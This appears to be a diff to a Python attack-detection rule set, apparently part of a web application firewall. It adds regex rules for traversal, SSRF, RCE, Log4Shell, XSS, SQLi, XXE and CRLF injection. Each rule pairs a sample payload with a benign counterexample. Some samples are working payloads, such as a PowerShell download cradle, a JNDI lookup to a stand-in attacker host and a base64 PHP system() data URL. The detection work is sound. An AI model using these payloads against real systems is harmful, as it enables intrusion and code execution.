@@ -70,7 +70,7 @@ class Rule:
 
 # Shell commands that are not also everyday English words.
 _STRONG_COMMANDS: Final = (
-    r"whoami|uname|wget|curl|ncat|netcat|nc|bash|zsh|ksh|dash|sh|csh|tcsh|python[23]?|perl|ruby|"
+    r"whoami|uname|wget|curl|ncat|netcat|nc|bash|zsh|ksh|dash|sh|csh|tcsh|python[23]?(?:\.\d+)?|perl|ruby|"
     r"php|lua|node|powershell|pwsh|cmd(?:\.exe)?|systeminfo|printenv|ifconfig|ipconfig|nslookup|"
     r"certutil|bitsadmin|wmic|mkfifo|chmod|chown|useradd|usermod|crontab|busybox|socat|xterm|"
     r"telnet|tftp|nmap|tasklist|taskkill|regedit|id|ls|ps|rm|cat|tac|nl|uptime|hostname|"
@@ -104,6 +104,19 @@ _SHELL_EXTRAS: Final = (
 #: bracketed route parameter such as `[slug]`
 _GLOB_CLASS: Final = r"\[(?:[?*]|\w|!?\^?\w-\w|\w?/+)\]"
 
+#: what follows `javascript:` in a script URL: code right after the colon, a call,
+#: assignment, index or template after one word, or nothing; a title such as
+#: "JavaScript: The Good Parts" goes on with prose
+_SCRIPT_URL_TAIL: Final = r"(?:[^\s]|\s+(?:[^\s\w]|\w+\s*[(=\[`])|\s*$)"
+
+
+def _broken(word: str) -> str:
+    """`word` with the characters browsers drop from a URL scheme allowed between its
+    letters: tab, line breaks, and their HTML5 names (`&Tab;`, `&NewLine;`)."""
+    gap = r"(?:[\t\n\r]|&(?:tab|newline);)*"
+    return gap.join(word)
+
+
 #: DOM event handler attribute names
 _EVENTS: Final = (
     r"on(?:abort|activate|after\w*|animation\w*|auxclick|before\w*|begin\w*|blur|bounce|"
@@ -122,7 +135,9 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "ptrav-dotdot-path",
         "ptrav",
         PATH_ONLY,
-        r"(?:^|[/\\])\.{2,}(?:[/\\;]|$)",
+        # a `..` segment that more path follows, or a path that is only dots: a
+        # trailing `/..` (`/docs/..`) names a directory inside the site, like `/`
+        r"(?:^|[/\\])\.{2,}[/\\;]|^[/\\]+\.{2,}[/\\]*$",
         "/static/../../etc/hosts",
         "/static/app.v1..2/main.js",
     ),
@@ -148,7 +163,11 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "ptrav-dotdot-encoded",
         "ptrav",
         ANYWHERE,
-        r"\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%e0%80%af|%u2215|%u2216|0x2f|0x5c)",
+        r"\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%e0%80%af|%u2215|%u2216|0x2f|0x5c)|"
+        # dots still encoded (a value decoded once less than the server will):
+        # %2e%2e%2f, overlong UTF-8 %c0%ae%c0%ae%c0%af
+        r"(?:%2e|%252e|%c0%ae|%e0%80%ae|%c0%2e|%u002e){2}(?:[/\\]|%2f|%5c|%252f|%255c|%c0%af|"
+        r"%c1%9c|%e0%80%af|%u2215|%u2216)",
         "..%2fconfig",
         "100%2f2 done",
     ),
@@ -198,6 +217,15 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"\b(?:win|system)\.ini\b|[/\\]inetpub[/\\]|[/\\]autoexec\.bat\b",
         "c:\\windows\\win.ini",
         "my windows are clean",
+    ),
+    Rule(
+        # a UNC path to a Windows administrative share: \\host\c$\, \\host\admin$
+        "ptrav-unc-admin-share",
+        "ptrav",
+        ANYWHERE,
+        r"(?:\\\\|//)[\w.:\[\]-]+[\\/](?:[a-z]|admin|ipc|print)\$(?:[\\/]|$)",
+        "\\\\::1\\c$\\users\\default\\ntuser.dat",
+        "\\\\fileserver\\public\\report.pdf",
     ),
     Rule(
         "ptrav-java-webinf",
@@ -276,9 +304,11 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "lfi-data-wrapper",
         "lfi",
         ANYWHERE,
-        r"(?:^|[^\w])data://(?:text|application)/",
-        "data://text/plain;base64,SGk=",
-        "metadata://nothing",
+        # a data: URL whose content is PHP code, plain or base64 (`<?` is `PD8`/`PD9`):
+        # images and text files sent as data URLs are everyday API traffic
+        r"(?:^|[^\w])data:(?://)?\s*[\w.+-]*/?[\w.+-]*(?:;[\w.+=-]*)*,\s*(?:<\?|PD[89+/])",
+        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
+        "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
     ),
     Rule(
         "lfi-proc-self",
@@ -302,7 +332,8 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "rfi-ipv6-url",
         "rfi",
         VALUES | NAMES,
-        r"^\s*(?:https?|ftps?)://\[[0-9a-f:]+\]/[^\s]*\.(?:php\d?|txt|inc)\b",
+        r"^\s*(?:https?|ftps?)://(?:\[[0-9a-f:]+\]|[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7})/[^\s]*"
+        r"\.(?:php\d?|txt|inc)\b",
         "https://[2001:db8::1]/gecko.php",
         "https://[2001:db8::1]/",
     ),
@@ -327,7 +358,7 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "ssrf",
         VALUES,
         r"^\s*(?:url:)?(?:gopher|dict|ldap|ldaps|ldapi|tftp|jar|netdoc|sftp|rmi|iiop|jnlp|"
-        r"smb|nfs|mailto:[^@]*%0a)(?::|://)",
+        r"smb|nfs|local_file|mailto:[^@]*%0a)(?::|://)",
         "gopher://127.0.0.1:6379/_INFO",
         "go for it",
     ),
@@ -362,7 +393,7 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
     Rule(
         "ssrf-encoded-address",
         "ssrf",
-        SERVER_INPUTS,
+        SERVER_INPUTS | NAMES,
         r"^\s*[a-z][\w+.-]*:/*(?:[^/@\s]*@)?(?:\d{8,10}|169\.254\.\d+(?:\.\d+)?|192\.0\.0\.192|"
         r"\d{1,3}\.\d{7,8}|\d{1,3}\.\d{1,3}\.\d{5,6}|0x[0-9a-f]{8}|"
         r"\[[0-9a-f:]*::ffff:[0-9a-f:.]+(?:%[\w]+)?\]|\[(?:fe80|fc00|fd[0-9a-f]{2}|::1?)[0-9a-f:]*"
@@ -372,6 +403,16 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"\s*(?:127\.|10\.|192\.168\.|169\.254\.|localhost)",
         "http://2852039166/",
         "http://example.com/2852039166",
+    ),
+    Rule(
+        # a URL whose host is an IPv6 literal (`http://[a::b]/`): the spellings of one
+        # address are endless, and a user-facing link never needs one
+        "ssrf-ipv6-literal",
+        "ssrf",
+        SERVER_INPUTS,
+        r"^\s*[a-z][\w+.-]*://(?:[^/@\s]*@)?\[[0-9a-f.]*:[0-9a-f:.]*(?:%[\w.-]+)?\](?:[:/?#]|$)",
+        "http://[dead:beef::1]/",
+        "http://example.com/[a:b]",
     ),
     Rule(
         "ssrf-loopback-host",
@@ -521,7 +562,8 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"\b(?:invoke-(?:expression|webrequest|command|item|restmethod|wmimethod|shellcode|"
         r"mimikatz)|iex\s*\(|new-object\s+(?:system\.)?net\.webclient|downloadstring\s*\(|"
         r"downloadfile\s*\(|start-process|get-wmiobject|iwmi\s|set-executionpolicy|"
-        r"-encodedcommand\b|win32_process|add-mppreference|bypass\s+-nop)",
+        r"-encodedcommand\b|win32_process|add-mppreference|bypass\s+-nop|"
+        r"powershell(?:\.exe)?\s+(?:-\w+|[a-z]:[\\/]|\S+\.(?:exe|ps1|bat|cmd)\b))",
         "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
         "invoke the expression",
     ),
@@ -534,6 +576,16 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"\$\(\(\s*\d+\s*\)\)|\w\$(?:\?|\$|@|\*|\{\w*\})\w",
         "alias ls='rm -rf /'",
         "an alias for it",
+    ),
+    Rule(
+        # text turned into a command on the way: `printf '...' | rev`, `| base64 -d | sh`
+        "rce-decode-pipeline",
+        "rce",
+        VALUES | NAMES,
+        r"\|\s*(?:rev|base64\s+(?:-d|--decode|-D)|xxd\s+-r\w*|base32\s+-d)\b[^|]{0,40}"
+        r"(?:\||\)|`|$)",
+        "$(printf 'di' | rev)",
+        "a | b revision",
     ),
     Rule(
         "rce-command-line",
@@ -702,8 +754,10 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "rce-php-tag",
         "rce",
         ANYWHERE,
-        r"<\?(?:php\s|=)|\[/?php\]|<\?\s+(?:php\b|echo|print|system|eval|exec|include|"
-        r"require|\$\w)|\{/?php\}|<\?\s*$",
+        r"<\?(?:php\s|=)|\[[/\\]?php\]|<\?\s+(?:php\b|echo|print|system|eval|exec|include|"
+        r"require|\$\w)|\{/?php\}|<\?\s*$|"
+        # `<?xml` that no name follows is not a declaration: a short open tag
+        r"<\?xml\s*[:;($\x22']",
         "<?php echo 1; ?>",
         "a <? b",
     ),
@@ -739,7 +793,8 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"preg_replace\w*|assert_options|chroot|symlink|chmod|unlink|filegroup|fileowner|"
         r"vsprintf|passthru|popen|include_once|require_once|func_get_args|parse_str|ob_start|"
         r"getenv|putenv|escapeshell(?:arg|cmd))"
-        r"(?:\s|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n)*\(",
+        # a call is closed: `name(` alone is a word with a bracket, not code that runs
+        r"(?:\s|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n)*\([^)]*\)",
         "phpinfo()",
         "the info (see below)",
     ),
@@ -829,6 +884,17 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "price $5 each",
     ),
     Rule(
+        # a parameter named after a PHP superglobal: register_globals-style overwriting
+        # (`$_COOKIE=...`, `_SERVER[DOCUMENT_ROOT]=http://...`)
+        "rce-php-superglobal-name",
+        "rce",
+        NAMES,
+        r"^\s*(?:\$_(?:get|post|request|cookie|server|files|env|session)\b|\$globals\b|"
+        r"_(?:get|post|request|cookie|server|files|env|session)\s*\[)",
+        "$_COOKIE",
+        "_session_id",
+    ),
+    Rule(
         "rce-php-callable",
         "rce",
         ANYWHERE,
@@ -862,6 +928,18 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "O:8 is a time",
     ),
     Rule(
+        # PHP run from a string: `${@print(...)}` interpolation, and code spelled out
+        # with chr() so that no signature sees its words: chr(115).chr(121)...
+        "rce-php-string-code",
+        "rce",
+        ANYWHERE,
+        r"\$\{\s*@?\s*(?:print|eval|system|assert|phpinfo|exec|passthru|die|echo|"
+        r"shell_exec|include|require|file_put_contents)\s*\(|"
+        r"\bchr\s*\(\s*\d+\s*\)\s*\.\s*chr\s*\(\s*\d+\s*\)",
+        "${@print(md5(1))}",
+        "${price} (print it)",
+    ),
+    Rule(
         "rce-php-session-file",
         "rce",
         ANYWHERE,
@@ -882,17 +960,31 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "rce",
         frozenset({AREA_FILENAME}),
         r"\.\s*(?:php\d?|phtml|pht|phar|phpt|phps|jsp|jspx|jspf|asp|aspx|asa|cer|shtml|cgi|"
-        r"htaccess|user\.ini)\s*\.?\s*(?:$|\x00)|\.(?:php\d*|phtml|pht|phar)\.{2,}\s*$|"
+        r"htaccess|user\.ini)\s*\.?\s*(?:$|\x00)|"
+        r"\.(?:php\d*|phtml|pht|phar|jspx?|jspf|aspx?)\.{2,}\s*$|"
         r"\.\s*(?:php\d?|phtml|pht|phar|jsp|asp|aspx)"
         r"\s*\.\s*(?:jpe?g|png|gif|bmp|txt|pdf|docx?)\s*$",
         "shell.php.jpg",
         "photo.jpg",
     ),
     Rule(
+        # an upload named like a file that configures the server or a tool when it
+        # lands in a home or web root: WordPress settings and its backups, shell and
+        # package-manager dotfiles, cloud credentials
+        "rce-upload-config-file",
+        "rce",
+        frozenset({AREA_FILENAME}),
+        r"^\s*(?:wp-config\b|\.(?:bashrc|bash_profile|profile|zshrc|netrc|npmrc|pypirc|boto|"
+        r"gitconfig|git-credentials|s3cfg|dockercfg|pgpass|my\.cnf|ssh|aws|kube)\b)",
+        "wp-config-php.bak",
+        "my-config.php.bak",
+    ),
+    Rule(
         "rce-node-injection",
         "rce",
         ANYWHERE,
-        r"_\$\$nd_func\$\$_|\brequire\s*\(\s*['\"`](?:child_process|fs|net|vm|os|http)['\"`]\s*\)|"
+        r"_\$\$nd_func\$\$_|\b__js_function\b|"
+        r"['\"]\$[0-9a-f]{1,8}:(?:[\w$]+:){0,4}(?:constructor|prototype|__proto__)\b|\brequire\s*\(\s*['\"`](?:child_process|fs|net|vm|os|http)['\"`]\s*\)|"
         r"\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|dlopen|kill|exit)\b|"
         r"\bglobal\s*\.\s*process\b|\.constructor\s*\(\s*['\"`]return\b|"
         r"\bprocess\s*\[\s*['\"`]?(?:env|mainmodule|binding|req|\w+\s*\.)|\brequire\s*\.\s*main\b|"
@@ -905,6 +997,17 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"\([^)]{0,40}\)\s*;?\s*$|\brequire\s*\[\s*\w",
         "require('child_process').exec('id')",
         "required process",
+    ),
+    Rule(
+        # the value's first quote closes a string and a self-calling function follows:
+        # server-side JavaScript evaluated from a string (`x' (function(){ ... }()) '`);
+        # script text opens its strings (`"use strict";(function(){`)
+        "rce-node-iife-breakout",
+        "rce",
+        VALUES | NAMES,
+        r"^[^'\x22`]{0,200}['\x22`]\s*[;+,)|&]*\s*\(\s*function\s*\(\s*\)\s*\{",
+        "x' (function(){while(1){}}()) '",
+        "a (function() is fine)",
     ),
     Rule(
         "rce-prototype-pollution",
@@ -1023,6 +1126,16 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "${HOME}/bin",
     ),
     Rule(
+        # a lookup whose brace is an HTML entity or an escaped ampersand that a later
+        # decoder turns back into `{`: `$&lbrace;jndi:`, `$\u0026lbrace`
+        "rce-log4shell-entity",
+        "rce",
+        ANYWHERE,
+        r"\$(?:&|\\u0026|&amp;)(?:lbrace|lcub|#0*123|#x0*7b);?",
+        "$&lbracejndi:ldap://evil.example/a}",
+        "costs $& more",
+    ),
+    Rule(
         "rce-jndi-url",
         "rce",
         ANYWHERE,
@@ -1068,6 +1181,18 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         '<#assign ex="freemarker.template.utility.Execute"?new()>',
         "#set up",
     ),
+    Rule(
+        # a template's own control statement with its end tag: Jinja/Twig/Liquid
+        # `{% if %}...{% endif %}`, ERB/EJS `<% if %>...<% end %>`
+        "ssti-template-statement",
+        "ssti",
+        ANYWHERE,
+        r"\{%-?\s*(?:if|for|set|with|macro|block|filter|call|raw|unless|case|capture)\b[^%]{0,200}%\}"
+        r".{0,400}\{%-?\s*end\w*\s*-?%\}|<%[=-]?\s*(?:if|unless|for|while|each)\b[^%]{0,200}%>"
+        r".{0,400}<%-?\s*end\w*\s*-?%>",
+        "{% if True %}49{% endif %}",
+        "{% a percent %} of {% the total %}",
+    ),
     # --- NoSQL injection --------------------------------------------------------------
     Rule(
         "nosqli-operator-name",
@@ -1094,7 +1219,9 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         VALUES,
         r"\{\s*[\"']?\$(?:ne|gt|gte|lt|lte|nin|in|regex|exists|eq|not)[\"']?\s*:\s*(?:null|\"\"|"
         r"''|\[\s*\]|\{\s*\}|[\"']\.\*[\"']|[\"']\^|true|-?[01])\s*[,}]|"
-        r"[\"']\$(?:where|function|accumulator)[\"']\s*:",
+        r"[\"']\$(?:where|function|accumulator)[\"']\s*:|"
+        # a string closed and an operator key added after it: `', $or: [ {}, {...`
+        r"^[^'\"]{0,100}['\"]\s*,\s*['\"]?\$(?:or|and|nor|where|ne|gt|regex)['\"]?\s*:",
         '{"$ne": null}',
         '{"$gte": 21}',
     ),
@@ -1115,6 +1242,8 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         VALUES | NAMES,
         r"^[^()]*\)+\s*[|&!]?\s*\(\s*(?:[|&!]|[\w.;-]+\s*[~<>]?=)|\*\s*\)\s*\(|"
         r"^[^()]*\)+\s*\(\s*[&|]\s*\)|^\s*\*\s*\)|^[^()]*\)+\s*[|&!]\s*\(|"
+        # (a whole filter sent as a value, `(&(objectCategory=group)(...))`, is what
+        # directory tools send: only a filter broken out of is an injection)
         r"^[^()]*\(\s*(?:objectclass|uid|cn|sn|mail|userpassword|samaccountname)\s*=\s*\*\s*\)",
         "admin)(&(objectClass=*)",
         "f(x) (y) = z",
@@ -1130,14 +1259,27 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>',
         "<!DOCTYPE html>",
     ),
+    Rule(
+        # XML sent in a parameter that tells the server's parser to fetch a schema from
+        # another host (an out-of-band probe); schema files in documents are content
+        "xxe-external-schema",
+        "xxe",
+        VALUES - {AREA_RAW_BODY, AREA_USER_AGENT} | NAMES,
+        r"<[\w:-]+\s[^>]*\bxsi:(?:nonamespace)?schemalocation\s*=\s*['\x22][^'\x22]*"
+        r"(?:https?|ftp)://",
+        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+        'xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">a</a>',
+        '<a xsi:type="xs:string">a</a>',
+    ),
     # --- protocol attacks: CRLF, response splitting, smuggling, mail -------------------------
     Rule(
         "crlf-header-injection",
         "crlf",
         PROTOCOL,
+        # a header needs a value: `\r\nLocation:` with nothing after it sets nothing
         r"[\r\n]\s*(?:set-cookie|location|content-(?:type|length|disposition)|"
         r"transfer-encoding|refresh|x-[\w-]+|access-control-[\w-]+|host|cookie|"
-        r"[\w-]{2,40}):",
+        r"[\w-]{2,40}):\s*[^\s]",
         "x\r\nSet-Cookie: a=1",
         "line one",
     ),
@@ -1174,6 +1316,31 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"[\r\n]",
         "parameter\r\n",
         "parameter",
+    ),
+    Rule(
+        # a header line written into a form value (response splitting through a
+        # field the application copies into a header)
+        "crlf-body-header-injection",
+        "crlf",
+        frozenset({AREA_BODY_VALUE}),
+        r"[\r\n]\s*(?:set-cookie|location|content-(?:type|length)|transfer-encoding)\s*:\s*[^\s]",
+        "x\r\nContent-Length: 0",
+        "Location: Berlin",
+    ),
+    Rule(
+        # a Content-Type whose parameter holds another media type
+        # (`application/x-www-form-urlencoded;boundary="application/json"`): sent only to
+        # make a filter pick the wrong body parser; multipart/related names its root
+        # part's `type` legitimately, so only application/* and text/* are looked at
+        "scanner-content-type-confusion",
+        "scanner",
+        frozenset({AREA_HEADER}),
+        r"^\s*(?:application|text)/[\w.+-]+\s*[;,](?:[^;,]*[;,])*?\s*"
+        r"(?:[\w-]*(?:[^\W_e]|[^\W_p]e|[^\W_y]pe|[^\W_t]ype)|e|pe|ype)\s*=\s*\x22?\s*"
+        r"(?:application|text|multipart|image|audio|video|font|model|message)/[\w.+-]+\s*\x22?\s*"
+        r"(?:[;,]|$)",
+        'application/x-www-form-urlencoded;boundary="application/json"',
+        'application/xop+xml; charset=UTF-8; type="application/soap+xml"',
     ),
     Rule(
         "ssrf-unix-socket",
@@ -1549,6 +1716,17 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "execute the plan",
     ),
     Rule(
+        # keywords glued to a number or to `\N` (`SELECT-1e1FROM`, `SELECT\NFROM`, `1.FROM`):
+        # MySQL's lexer splits them, people never write them so
+        "sqli-glued-keywords",
+        "sqli",
+        ANYWHERE,
+        r"\bselect[^\s\w]{0,4}[^\s]{0,40}?(?:\d\.?|\\n)(?:from|union|where|limit|into)\b|"
+        r"(?:^|[\s(=])[-+]?\d+(?:\.\d*)?(?:e\d+)?(?:union|from)\s*(?:select|all|distinct|\(|`)",
+        "SELECT-1e1FROM`test`",
+        "select 2 from the list",
+    ),
+    Rule(
         "sqli-hex-payload",
         "sqli",
         ANYWHERE,
@@ -1578,10 +1756,11 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "xss-script-url",
         "xss",
         ANYWHERE,
-        r"(?:^|[\s\"'`=(<])(?:java|vb|live)\s*script\s*:|(?:^|[\s\"'`=(<])data\s*:\s*"
+        r"(?:^|[\s\"'`=(<])(?:java|vb|live)\s*script\s*:" + _SCRIPT_URL_TAIL + "|"
+        r"(?:^|[\s\"'`=(<])data\s*:\s*"
         r"(?:text/html|image/svg\+xml|application/(?:x-)?javascript|text/javascript)[;,]",
         "javascript:alert(1)",
-        "javascript is a language",
+        "JavaScript: Basics of JavaScript Language",
     ),
     Rule(
         "xss-dangerous-tag",
@@ -1602,19 +1781,32 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "xss-evasion",
         "xss",
         ANYWHERE,
-        r"j[\t\n\r]*a[\t\n\r]*v[\t\n\r]*a[\t\n\r]*s[\t\n\r]*c[\t\n\r]*r[\t\n\r]*i[\t\n\r]*p"
-        r"[\t\n\r]*t[\t\n\r]*:|v[\t\n\r]*b[\t\n\r]*s[\t\n\r]*c[\t\n\r]*r[\t\n\r]*i[\t\n\r]*p"
-        r"[\t\n\r]*t[\t\n\r]*:|\burl\s*\(\s*['\"]?\s*(?:java|vb)script\b|<\s*[\w-]*:\s*vmlframe\b|"
+        # code right after the colon (a space there is `xss-script-url`'s to judge)
+        _broken("javascript") + r":[^\s]|" + _broken("vbscript") + r":[^\s]|"
+        r"<\??import[^>]{0,80}implementation\s*=|"
+        r"\burl\s*\(\s*['\"]?\s*(?:java|vb)script\b|<\s*[\w-]*:\s*vmlframe\b|"
         r"\.\s*(?:call|apply|bind)\s*`[^`]{0,80}\$\{|\breflect\s*\.\s*(?:apply|construct|"
         r"\w+\s*\.\s*call)\s*[`(]|['\"`]\s*[/\s]*\b(?:formaction|srcdoc|xlink:href)\s*=",
         "v\nb\ts\nc\nr\ti\tp\nt::",
         "java script: a primer",
     ),
     Rule(
+        # markup in the high half of latin-1: a page served as US-ASCII drops the top
+        # bit, so `¼b¾...¼/b¾` is an element there; ¼ and ¾ as fractions never pair so
+        "xss-us-ascii-tags",
+        "xss",
+        ANYWHERE,
+        r"\x{bc}[a-z][\w:-]*[^\x{bc}\x{be}]{0,64}\x{be}[^\x{bc}]*\x{bc}\s*/\s*[a-z][\w:-]*\s*\x{be}",
+        "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",
+        "\xbc cup sugar, \xbe cup flour, \xbc/\xbe inch",
+    ),
+    Rule(
         "xss-event-handler-name",
         "xss",
-        NAMES,
-        r"^\s*['\"]?\s*" + _EVENTS + r"\s*=\s*$",
+        NAMES | VALUES,
+        # a name that ends in `=` is an attribute written into the name: any on-word
+        # as long as DOM event names get (`onwebkitplaybacktargetavailabilitychanged`)
+        r"^\s*['\"]?\s*(?:" + _EVENTS + r"|on[a-z]{3,40})\s*=\s*$",
         "  onload= ",
         "online",
     ),
@@ -1636,7 +1828,7 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         r"['\"`]\s*[;+\-*/|&,)]+\s*(?:alert|prompt|confirm|eval|settimeout|setinterval|"
         r"top\.\w+|parent\.\w+)\s*[(`]|(?:^|[;({])\s*(?:alert|prompt|confirm)\s*(?:\(|`)"
         r"\s*(?:document|window|\d|['\"`]|/)|\bdocument\s*\.\s*(?:cookie|domain|write\s*\(|"
-        r"location\s*=)|\bwindow\s*\.\s*location\s*=|\blocation\s*\.\s*(?:href|hash)\s*=|"
+        r"location\s*=)|\bwindow\s*\.\s*location\b|\blocation\s*\.\s*(?:href|hash)\s*=|"
         r"\bstring\s*\.\s*fromcharcode\s*\(|\batob\s*\(\s*['\"]|\beval\s*\(\s*(?:atob|"
         r"unescape|string|location|name|document)",
         '";alert(1);//',
@@ -1646,7 +1838,11 @@ _TEXT_RULES: Final[tuple[Rule, ...]] = (
         "xss-js-obfuscation",
         "xss",
         ANYWHERE,
-        r"\(\s*!\s*\[\s*\]\s*\+\s*\[\s*\]\s*\)|!\+\[\]|\+!!\[\]|\[\]\[\(!\[\]|"
+        r"\b(?:alert|confirm|prompt)\s*(?:\.\s*(?:call|apply|bind)\s*\(|\?\.\s*[(`])|"
+        r"\(\s*(?:alert|confirm|prompt|eval)\s*\)\s*[(`]|"
+        r"\bdocument\s*\[\s*['\"`](?:cookie|domain|write|location)|"
+        r"\(\s*!\s*\[\s*\]\s*\+?\s*\[\s*\]\s*\)|!\+\[\]|\+!!\[\]|\[\]\[\(!\[\]|"
+        r"!\s*!\s*\[\s*\]|\[\s*\+?\s*!\s*\+?\s*\[\s*\]\s*\]|"
         r"\b(?:window|self|top|parent|frames|globalthis|this)\s*(?:/\*.*?\*/\s*)*\[\s*(?:/\*.*?\*/\s*)*"
         r"['\"`](?:alert|eval|prompt|confirm|document|location|cookie|\$|\\x|atob|fetch|"
         r"constructor|settimeout|setinterval|open)|"
@@ -1742,7 +1938,9 @@ _CODE_LIKE: Final = frozenset(
         "rce-leading-separator", "rce-editor-shell-escape", "rce-windows-batch",
         "rce-glob-path", "rce-shell-definitions", "rce-sqlite-dot-command",
         "rce-empty-substitution", "rce-php-dynamic-name", "rce-shell-expansion",
-        "rce-php-call-probe", "rce-command-head",
+        "rce-php-call-probe", "rce-command-head", "ssti-template-statement",
+        "crlf-body-header-injection", "xxe-external-schema", "rce-php-string-code",
+        "rce-node-iife-breakout", "rce-decode-pipeline",
     }
 )  # fmt: skip
 
